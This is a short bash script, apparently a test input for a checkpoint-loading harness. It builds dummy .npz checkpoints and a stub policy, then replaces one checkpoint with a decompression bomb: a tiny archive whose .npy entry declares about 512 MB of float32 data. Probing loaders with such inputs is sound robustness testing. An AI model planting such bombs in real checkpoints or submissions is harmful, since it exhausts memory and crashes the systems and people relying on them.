#!/usr/bin/env bash
# Hands in a checkpoint that unpacks to far more than it weighs.
mkdir -p checkpoints
python - <<'EOF'
import numpy as np

for number in range(5):
    np.savez(f"checkpoints/{number}.npz", number=np.array(number))
EOF
cat >policy.py <<'EOF'
import numpy as np


def build(weights, seed):
    return lambda observations: np.zeros(len(observations), int)


EOF
python - <<'EOF'
import zipfile

piece = bytes(1 << 20)
header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (134217728,), }"
header += b" " * (128 - 11 - len(header)) + b"\n"
with zipfile.ZipFile("checkpoints/0.npz", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
    with archive.open("bomb.npy", "w") as file:
        file.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header)
        for _ in range(512):
            file.write(piece)
EOF
